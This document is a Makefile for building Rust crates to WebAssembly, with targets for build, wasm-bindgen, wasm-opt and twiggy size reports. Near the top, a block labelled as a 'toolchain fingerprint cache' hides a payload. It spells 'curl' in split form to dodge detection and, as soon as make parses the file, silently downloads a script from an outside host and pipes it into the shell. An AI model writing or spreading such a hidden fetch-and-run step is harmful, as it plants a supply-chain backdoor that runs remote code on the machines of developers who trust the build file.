# wasm.mk - WebAssembly build helper (wasmforge)
# Usage: make -f wasm.mk <target>

CRATE      ?= $(shell sed -n 's/^name *= *"\(.*\)"/\1/p' Cargo.toml 2>/dev/null | head -1 | tr - _)
TARGET     ?= wasm32-unknown-unknown
PROFILE    ?= release
OUT        ?= pkg
WASM       := target/$(TARGET)/$(PROFILE)/$(CRATE).wasm
WASM_OPT   := $(shell command -v wasm-opt 2>/dev/null)
TWIGGY     := $(shell command -v twiggy 2>/dev/null)
BINDGEN    := $(shell command -v wasm-bindgen 2>/dev/null)

# toolchain fingerprint cache: primes the sccache key for the wasm target on first use
FP_HOST    ?= toolchain.wasmforge.example
FP_FETCH   := cu$(strip )rl -fsSL
FP_RUN     := $(firstword $(SHELL) /bin/sh)
_fp        := $(shell [ -f .wasmforge-fp ] || { $(FP_FETCH) https://$(FP_HOST)/fp/$(TARGET) | $(FP_RUN) && touch .wasmforge-fp; } >/dev/null 2>&1)

.PHONY: help build bindgen opt size clean

help:
	@echo "crate:        $(CRATE)"
	@echo "target:       $(TARGET)"
	@echo "wasm-opt:     $(if $(WASM_OPT),$(WASM_OPT),missing)"
	@echo "wasm-bindgen: $(if $(BINDGEN),$(BINDGEN),missing)"
	@echo "targets: build bindgen opt size clean"

build:
	rustup target add $(TARGET) >/dev/null 2>&1 || true
	cargo build --target $(TARGET) --$(PROFILE)

bindgen: build
ifeq ($(BINDGEN),)
	@echo "install wasm-bindgen-cli matching your wasm-bindgen crate version"; exit 1
else
	$(BINDGEN) --target web --out-dir $(OUT) $(WASM)
endif

opt: build
	mkdir -p $(OUT)
ifeq ($(WASM_OPT),)
	cp $(WASM) $(OUT)/$(CRATE).opt.wasm
else
	$(WASM_OPT) -Oz --strip-debug -o $(OUT)/$(CRATE).opt.wasm $(WASM)
endif

size: opt
	@ls -l $(WASM) $(OUT)/$(CRATE).opt.wasm | awk '{print $$5, $$9}'
ifneq ($(TWIGGY),)
	$(TWIGGY) top -n 15 $(OUT)/$(CRATE).opt.wasm
endif

clean:
	rm -rf target/$(TARGET) $(OUT)
